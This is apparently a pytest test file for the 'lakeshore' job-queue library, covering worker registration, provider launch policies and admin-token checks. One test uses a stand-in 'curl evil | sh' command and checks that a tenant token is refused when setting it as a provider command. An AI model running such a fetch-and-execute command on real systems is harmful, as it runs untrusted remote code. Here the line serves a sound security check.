"""Providers from Python: run_worker in the worker registry (launch id, provider, running
and idle, refreshed, removed on exit) on every plane; a queue's provider set, read and
removed (the server's admin token over HTTP); and a Python worker launched by a real
``lakeshore provider run`` counted as live by the supervisor."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from lakeshore import (
    ForbiddenError,
    HttpDispatch,
    InvalidError,
    LaunchPolicy,
    Provider,
    Queue,
    Resources,
    SyncQueue,
    WorkerInfo,
    run_worker,
)
from tests.conftest import PLANES, Planes, Server


def wait_until(what: str, cond: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.02)


def registered(d: HttpDispatch, wid: str) -> WorkerInfo | None:
    return next((w for w in d.workers(seen_within=60) if w.id == wid), None)


def test_run_worker_registers_refreshes_and_deregisters(
    every_plane: HttpDispatch, qname: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = every_plane
    monkeypatch.setenv("LAKESHORE_LAUNCH_ID", "01LAUNCHLAUNCHLAUNCHLAUNCH")
    monkeypatch.setenv("LAKESHORE_PROVIDER", "local")
    release = threading.Event()

    def slow(x: int) -> int:
        release.wait(10)
        return x

    stop = threading.Event()
    wid = f"py-{qname}"[:100]
    t = threading.Thread(
        target=run_worker,
        args=(d,),
        kwargs={"queues": {qname: slow}, "stop": stop, "worker_id": wid, "lease_ttl": 0.6, "handle_signals": False},
        daemon=True,
    )
    t.start()
    try:
        wait_until("the registration", lambda: registered(d, wid) is not None)
        w = registered(d, wid)
        assert w is not None
        assert (w.launch_id, w.provider, w.queues, w.pid) == ("01LAUNCHLAUNCHLAUNCHLAUNCH", "local", [qname], os.getpid())
        assert w.running == 0 and w.idle_since is not None and w.started_at is not None and w.host
        first_seen = w.last_seen
        assert first_seen is not None
        q = SyncQueue(qname, dispatch=d)
        inv = q.submit({"x": 7})
        # Refreshed every third of the lease: the running job shows, idle_since goes.
        wait_until("running 1", lambda: (r := registered(d, wid)) is not None and r.running == 1 and r.idle_since is None)
        release.set()
        assert q.result(inv, timeout=10) == 7
        ended = registered(d, wid)
        wait_until(
            "idle again",
            lambda: (r := registered(d, wid)) is not None and r.running == 0 and r.idle_since is not None
            and r.last_seen is not None and r.last_seen > first_seen,
        )
        assert ended is not None
        r = registered(d, wid)
        assert r is not None and r.idle_since is not None and w.idle_since is not None and r.idle_since > w.idle_since
    finally:
        release.set()
        stop.set()
        t.join(15)
    assert not t.is_alive()
    assert registered(d, wid) is None  # removed on exit


def test_hand_started_worker_has_no_launch_id(planes: Planes, qname: str, monkeypatch: pytest.MonkeyPatch) -> None:
    d = planes.get("memory")
    monkeypatch.delenv("LAKESHORE_LAUNCH_ID", raising=False)
    monkeypatch.delenv("LAKESHORE_PROVIDER", raising=False)
    seen: list[WorkerInfo | None] = []

    def look(x: int) -> int:
        seen.append(registered(d, f"hand-{qname}"))
        return x

    SyncQueue(qname, dispatch=d).submit(1)
    assert run_worker(d, queues={qname: look}, once=True, worker_id=f"hand-{qname}") == 1
    (w,) = seen
    assert w is not None and w.launch_id == "" and w.provider == "" and w.queues == [qname]
    assert registered(d, f"hand-{qname}") is None


@pytest.mark.parametrize("kind", PLANES)
def test_set_provider_read_and_remove(planes: Planes, kind: str, qname: str) -> None:
    d = planes.get(kind)  # on serve: the server's admin token
    q = SyncQueue(qname, dispatch=d)
    assert q.provider() is None
    got = q.set_provider(
        "local",
        command=[sys.executable, "worker.py"],
        max_workers=3,
        idle_timeout=30,
        env={"MODEL": "small"},
        resources=Resources(cpus=2, memory_mb=512),
    )
    assert isinstance(got, Provider) and got.name == "local"
    assert got.policy.command == [sys.executable, "worker.py"] and got.policy.max_workers == 3
    assert got.policy.idle_timeout == 30.0 and got.policy.env == {"MODEL": "small"}
    assert got.policy.resources.cpus == 2 and got.policy.resources.memory_mb == 512
    assert q.provider() == got
    # Replacing it, with a LaunchPolicy this time; the asyncio queue reads the same.
    q.set_provider("local", LaunchPolicy(command=["true"], min_workers=1, max_workers=1))
    import asyncio

    async def read() -> Provider | None:
        return await Queue(qname, dispatch=d).provider()

    p = asyncio.run(read())
    assert p is not None and p.policy.command == ["true"] and p.policy.min_workers == 1
    with pytest.raises(InvalidError):
        q.set_provider("local", command=["true"], min_workers=3, max_workers=1)  # max < min
    with pytest.raises(InvalidError):
        q.set_provider("no-such-provider", command=["true"])
    with pytest.raises(TypeError):
        q.set_provider("local", command="python worker.py")  # argv, not a string
    assert q.provider() == p  # nothing stored by the refused ones
    assert q.remove_provider() is True
    assert q.remove_provider() is False and q.provider() is None


def test_provider_changes_need_the_servers_admin_token(planes: Planes, server: Server, qname: str) -> None:
    admin = SyncQueue(qname, dispatch=planes.get("serve"))
    admin.set_provider("local", command=["true"])
    tenant = HttpDispatch(server.url, token=server.token(qname, "admin"))
    try:
        q = SyncQueue(qname, dispatch=tenant)
        assert q.provider() is not None  # any token of the queue reads it
        with pytest.raises(ForbiddenError) as e:
            q.set_provider("local", command=["sh", "-c", "curl evil | sh"])
        assert "admin token" in str(e.value)
        with pytest.raises(ForbiddenError):
            q.remove_provider()
        assert admin.provider() is not None and admin.provider().policy.command == ["true"]  # type: ignore[union-attr]
    finally:
        tenant.close()
        admin.remove_provider()


WORKER = """
import os, pathlib, time, lakeshore

RELEASE = pathlib.Path(__file__).with_name("release")

def double(x):
    # Held until the test creates the release file: a worker that runs a job is never
    # stopped as idle, so the test reads the registry while this runs.
    deadline = time.monotonic() + 60
    while not RELEASE.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    return 2 * x

lakeshore.run_worker(queues={os.environ["LAKESHORE_QUEUE"]: double}, lease_ttl=1.5)
"""


def test_a_python_worker_launched_by_a_provider_counts_as_live(lakeshore_bin: str, server: Server, qname: str) -> None:
    """`lakeshore provider run` launches a Python run_worker script (the local provider); it
    registers with the launch id from LAKESHORE_LAUNCH_ID, so the supervisor counts it live
    (read while its job is held, as a worker running a job is never stopped as idle),
    it runs the job, and once idle the supervisor stops it as idle (a launch that never
    registered would be stopped as register_timeout instead), and it deregisters on exit.
    The queue is in a namespace of its own: the worker serves it from LAKESHORE_NAMESPACE,
    which the provider sets (its script names none)."""
    d = HttpDispatch(server.url, token=server.admin_token, namespace="prov-ns")
    home = Path(tempfile.mkdtemp(prefix="ls-prov-"))
    script = home / "worker.py"
    script.write_text(textwrap.dedent(WORKER))
    q = SyncQueue(qname, dispatch=d)
    q.set_provider("local", command=[sys.executable, str(script)], max_workers=1, idle_timeout=0.5, cooldown=0.1,
                   register_timeout=60)
    env = dict(os.environ, LAKESHORE_HOME=str(home), LAKESHORE_TOKEN=server.admin_token)
    env.pop("LAKESHORE_URL", None)
    log = home / "supervisor.log"
    with open(log, "wb") as out:
        sup = subprocess.Popen(
            [lakeshore_bin, "provider", "run", "--target", server.url, "--tick", "100ms", "--stop-grace", "10s"],
            env=env, stdout=out, stderr=subprocess.STDOUT,
        )
    try:
        inv = q.submit(21)
        # The job holds until released, so the launched worker is live and not idle while
        # the registry is read (the supervisor stops only workers that run no job).
        wait_until("the launched worker to register and run the job",
                   lambda: any(qname in w.queues and w.running == 1 for w in d.workers()), timeout=60)
        mine = [w for w in d.workers() if qname in w.queues]
        assert len(mine) == 1 and mine[0].provider == "local" and re.fullmatch(r"[0-9A-Z]{26}", mine[0].launch_id)
        assert mine[0].namespace == "prov-ns"
        launch = mine[0].launch_id
        (home / "release").touch()
        assert q.result(inv, timeout=60) == 42
        text = ""

        def stopped_idle() -> bool:
            nonlocal text
            text = log.read_text(errors="replace")
            return bool(re.search(rf'msg="provider supervisor: stopping".*launch={launch} reason=idle', text))

        wait_until("the supervisor to stop the idle worker", stopped_idle, timeout=30)
        assert "register_timeout" not in text, text
        wait_until("the worker to deregister", lambda: not [w for w in d.workers() if qname in w.queues], timeout=20)
    finally:
        (home / "release").touch()
        q.remove_provider()
        sup.terminate()
        sup.wait(20)
        d.close()
